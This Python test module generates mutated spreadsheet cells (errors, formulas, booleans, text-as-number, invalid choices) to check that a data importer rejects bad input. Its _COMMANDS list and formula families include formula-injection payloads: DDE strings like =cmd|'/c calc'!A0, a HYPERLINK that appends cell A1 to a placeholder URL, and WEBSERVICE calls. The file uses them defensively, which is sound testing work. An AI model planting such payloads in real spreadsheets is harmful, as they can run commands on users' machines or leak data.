"""Cells that hold something else than a plain value: formulas, errors, truth."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from random import Random

from tests.contributions.mutations.book import Cell
from tests.contributions.mutations.inputs import Input, family, of_cell
from tests.contributions.mutations.material import Material, Spot

__all__: list[str] = []

_ERRORS = ("#REF!", "#N/A", "#DIV/0!", "#VALUE!", "#NAME?", "#NULL!", "#NUM!", "#SPILL!", "#CALC!")
_COMMANDS = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x.example/"&A1,"看")',
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    " =cmd|'/c calc'!A0",
    "\t=cmd|'/c calc'!A0",
    "\n=1+1",
    "\u200b=1+1",
    "＝1+1",
    "=",
    "+",
)


def _any_day(material: Material, random: Random) -> Spot:
    return random.choice(material.spots("mobile_daily", "dau"))


def _event(material: Material, random: Random) -> Spot:
    return random.choice(material.spots("events", "event"))


def _formula(formula: str, value: str | None, kind: str = "", more: str = "") -> Cell:
    cached = "" if value is None else f"<v>{escape(value)}</v>"
    return Cell(f"<f{more}>{escape(formula, quote=False)}</f>{cached}", kind)


@family("布尔值")
def _booleans(material: Material, random: Random) -> Iterator[Input]:
    for dataset, column in (
        ("mobile_daily", "dau"),
        ("mobile_daily", "date"),
        ("hotline_monthly", "type"),
        ("hotline_monthly", "accept_h"),
        ("report_batch_daily", "end_time"),
    ):
        spot = random.choice(material.spots(dataset, column))
        for value in "01":
            yield of_cell(material, spot, f"布尔{value}", Cell(f"<v>{value}</v>", "b"), "refused")
        yield of_cell(material, spot, "文字TRUE", "TRUE", "refused")


@family("错误值")
def _errors(material: Material, random: Random) -> Iterator[Input]:
    for error in _ERRORS:
        spot = _any_day(material, random)
        cell = Cell(f"<v>{error}</v>", "e")
        yield of_cell(material, spot, error, cell, "refused", shown=error)
    for dataset, column in (("events", "event"), ("mobile_daily", "date"), ("measures", "value")):
        spot = random.choice(material.spots(dataset, column))
        cell = Cell("<v>#N/A</v>", "e")
        yield of_cell(material, spot, "#N/A", cell, "refused", shown="#N/A")
        if column != "event":
            yield of_cell(material, spot, "文字#N/A", "#N/A", "refused")


@family("有结果的公式")
def _computed(material: Material, random: Random) -> Iterator[Input]:
    for formula in (
        "SUM(B2:B3)",
        "ROUND(RAND()*1E5,0)",
        "[1]Sheet1!$A$1",
        "'[数据.xlsx]表'!B2",
        "NOW()",
    ):
        spot = _any_day(material, random)
        yield of_cell(material, spot, formula, _formula(formula, spot.text), "right")
    spot = _any_day(material, random)
    array = _formula("SUM(B2:B3)", spot.text, more=f' t="array" ref="{spot.address}"')
    yield of_cell(material, spot, "数组公式", array, "right")
    shared = _formula("B2+1", spot.text, more=f' t="shared" ref="{spot.address}" si="0"')
    yield of_cell(material, spot, "共享公式", shared, "right")
    yield of_cell(material, spot, "文字结果", _formula('"1"&"2"', spot.text, "str"), "either")
    yield of_cell(material, spot, "结果为空文字", _formula('""', "", "str"), "refused")
    yield of_cell(
        material, spot, "结果不是数", _formula("A1", "见附件", "str"), "refused", shown="见附件"
    )
    yield of_cell(material, spot, "结果为错误", _formula("1/0", "#DIV/0!", "e"), "refused")
    yield of_cell(material, spot, "结果为布尔", _formula("1=1", "1", "b"), "refused")
    event = _event(material, random)
    cell = _formula('HYPERLINK("http://x.example","x")', event.text, "str")
    yield of_cell(material, event, "HYPERLINK", cell, "either")
    cell = _formula("cmd|'/c calc'!A0", "#REF!", "e")
    yield of_cell(material, event, "DDE", cell, "refused")


@family("没有结果的公式")
def _uncomputed(material: Material, random: Random) -> Iterator[Input]:
    for formula in ("SUM(B2:B3)", "1+1", "cmd|'/c calc'!A0", 'WEBSERVICE("http://x.example")'):
        yield of_cell(
            material, _any_day(material, random), formula, _formula(formula, None), "refused"
        )
        empty = Cell(f"<f>{escape(formula)}</f><v></v>")
        yield of_cell(material, _any_day(material, random), f"{formula} 空值", empty, "refused")
    yield of_cell(material, _event(material, random), "文字列", _formula("A1", None), "refused")
    spot = random.choice(material.spots("mobile_daily", "date"))
    yield of_cell(material, spot, "日期列", _formula("TODAY()", None), "refused")


@family("像公式的文字")
def _commands(material: Material, random: Random) -> Iterator[Input]:
    for text in _COMMANDS:
        yield of_cell(material, _event(material, random), repr(text), text, "refused", shown="")
        yield of_cell(material, _any_day(material, random), repr(text), text, "refused", shown="")
    spot = random.choice(material.spots("seal_optimization_points", "text"))
    for text in ("-", "+1", "-5", "@所有人", "=1"):
        yield of_cell(material, spot, text, text, "refused", value=text)


@family("文字列里的数")
def _number_as_text(material: Material, random: Random) -> Iterator[Input]:
    for stored in ("123", "0.1", "45385"):
        spot = _event(material, random)
        cell = Cell(f"<v>{stored}</v>", style="0")
        yield of_cell(material, spot, f"数{stored}", cell, "either", value=stored)
    choice = random.choice(material.spots("hotline_monthly", "type"))
    for cell in (Cell("<v>1</v>"), Cell("<v>0</v>", "s")):
        yield of_cell(material, choice, f"选项为{cell.body}", cell, "refused")


@family("选项之外")
def _choices(material: Material, random: Random) -> Iterator[Input]:
    for text in ("問題", "咨询", "问题、建议", "1", "问題", "Question", "问"):
        spot = random.choice(material.spots("hotline_monthly", "type"))
        yield of_cell(material, spot, text, text, "refused")
    for text in ("核心", "核心系统、手机银行", "核⼼系统"):
        spot = random.choice(material.spots("events", "system"))
        yield of_cell(material, spot, text, text, "either")
    yield of_cell(material, spot, "全 部", "全 部", "either", value="全部")
